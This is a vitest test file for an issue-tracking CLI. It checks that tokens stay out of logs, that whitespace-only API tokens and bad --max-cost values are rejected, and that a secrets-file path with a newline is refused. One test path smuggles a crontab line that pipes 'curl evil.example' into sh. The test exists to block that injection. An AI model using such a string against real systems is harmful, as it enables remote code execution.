import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Reporter } from '../../src/output/reporter.js';
import { testDeps } from '../helpers/store.js';
import { cliEnv, runCli } from '../helpers/cli.js';
import { tempDir } from '../helpers/temp-dir.js';
import { call, testApp } from '../server/server-fixture.js';

function capturingReporter(lines: string[]): Reporter {
  return { progress() {}, info: (m) => lines.push(`info ${m}`), warn: (m) => lines.push(`warn ${m}`), stop() {} };
}

describe('secrets and hostile paths', () => {
  it('logs request paths without their query string under --verbose', async () => {
    const lines: string[] = [];
    const { app } = await testApp({ logRequests: true, deps: testDeps({ reporter: capturingReporter(lines) }) });
    await call(app, { method: 'GET', url: '/api/status?token=s3cret-value&x=1' });
    await call(app, { method: 'GET', url: '/api/issues/0x10?token=s3cret-value' });
    expect(lines.join('\n')).not.toContain('s3cret');
    expect(lines).toContainEqual(expect.stringMatching(/^info GET \/api\/status 200 /));
    expect(lines).toContainEqual(expect.stringMatching(/^info GET \/api\/issues\/0x10 400 /));
  });

  it('refuses an ISSUETRACK_API_TOKEN of only whitespace with exit 78 instead of serving on 0.0.0.0', async () => {
    const home = tempDir();
    const r = await runCli(['--db', join(home, 'it.db'), 'serve', '--host', '0.0.0.0', '--port', '0'], { env: cliEnv(home, { ISSUETRACK_API_TOKEN: ' \t ' }) });
    expect(r.exitCode).toBe(78);
    expect(r.stdout).toBe('');
    expect(r.stderr).toBe('issuetrack: ISSUETRACK_API_TOKEN is set but holds only whitespace; set the real value or unset it\n');
  });

  it('refuses a Zendesk token of only whitespace with exit 78', async () => {
    const home = tempDir();
    const env = cliEnv(home, { ZENDESK_URL: 'http://127.0.0.1:9', ZENDESK_EMAIL: 'a@b.test', ZENDESK_API_TOKEN: '   ' });
    const r = await runCli(['--db', join(home, 'it.db'), 'sync'], { env });
    expect(r.exitCode).toBe(78);
    expect(r.stderr).toMatch(/^issuetrack: ZENDESK_API_TOKEN is set but holds only whitespace/);
  });

  it('refuses a --secrets-file path with a newline before writing any crontab line', async () => {
    const home = tempDir();
    // A real private file, so that only the newline in its name is wrong.
    const path = join(home, 'env\n* * * * * curl evil.example | sh');
    writeFileSync(path, 'ZENDESK_API_TOKEN=x\n', { mode: 0o600 });
    const r = await runCli(['--db', join(home, 'it.db'), 'schedule', '--cron', '--secrets-file', path], { env: cliEnv(home) });
    expect(r.exitCode).toBe(64);
    expect(r.stdout).toBe('');
    expect(r.stderr.trimEnd().split('\n')).toHaveLength(1);
    expect(r.stderr).toMatch(/^issuetrack: --secrets-file: the path holds a control character/);
  });

  it('refuses the --max-cost the API refuses', async () => {
    const home = tempDir();
    for (const cost of ['1e-300', '0.00001', '0']) {
      const r = await runCli(['--db', join(home, 'it.db'), 'analyze', '--max-cost', cost], { env: cliEnv(home) });
      expect(r.exitCode, cost).toBe(64);
    }
  });
});
